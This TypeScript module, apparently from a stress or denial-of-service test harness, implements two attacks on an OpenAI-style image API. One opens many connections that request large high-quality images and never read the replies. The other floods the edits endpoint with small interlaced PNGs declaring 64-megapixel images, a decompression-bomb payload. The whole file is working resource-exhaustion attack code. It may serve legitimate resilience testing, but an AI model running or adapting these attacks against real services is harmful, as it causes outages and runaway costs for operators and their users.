import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, AttackTarget } from './attack.ts';
import { askWire, countStatuses, openWire, writeWireHead, type WireRequest } from './attack-wire.ts';
import { writeInterlacedPng } from './write-interlaced-png.ts';

const heldForMs = 8_000;
const answeredWithinMs = 15_000;
/** 64 megapixels, the most that is taken. */
const side = 8_192;

/** `size` clients that ask for many large pictures and read none. */
export const askForDrawings: Attack = async (target, { size }) => {
  const { head, body } = writeWish(target);
  for (let count = 0; count < size; count++) openWire(target).write(head + body);
  await sleep(heldForMs);
  return {};
};

/** `size` edits of large pictures in small files; `kind` says how many pictures each has. */
export const editLargePictures: Attack = async (target, { size, kind }) => {
  const request = writeEdit(target, Number(kind));
  const asking = Array.from({ length: size }, () =>
    askWire(target, request, { timeoutMs: answeredWithinMs }),
  );
  return countStatuses(await Promise.all(asking));
};

function writeWish({ apiKey }: AttackTarget): { readonly head: string; readonly body: string } {
  const wish = { prompt: 'a sunset', n: 10, size: '3840x2160', quality: 'high', output_format: 'jpeg' };
  const body = JSON.stringify(wish);
  const headers = { authorization: `Bearer ${apiKey}`, 'content-type': 'application/json' };
  return { head: writeWireHead({ path: '/v1/images/generations', headers, body }), body };
}

function writeEdit({ apiKey }: AttackTarget, pictures: number): WireRequest {
  const type = 'content-type: image/png\r\n\r\n';
  const head = `--b\r\ncontent-disposition: form-data; name="image[]"; filename="a.png"\r\n${type}`;
  const part = [Buffer.from(head), writeInterlacedPng(side), Buffer.from('\r\n')];
  const prompt = '--b\r\ncontent-disposition: form-data; name="prompt"\r\n\r\na yellow moon\r\n--b--\r\n';
  const parts = Array.from({ length: pictures }, () => part).flat();
  return {
    path: '/v1/images/edits',
    headers: { authorization: `Bearer ${apiKey}`, 'content-type': 'multipart/form-data; boundary=b' },
    body: Buffer.concat([...parts, Buffer.from(prompt)]),
  };
}
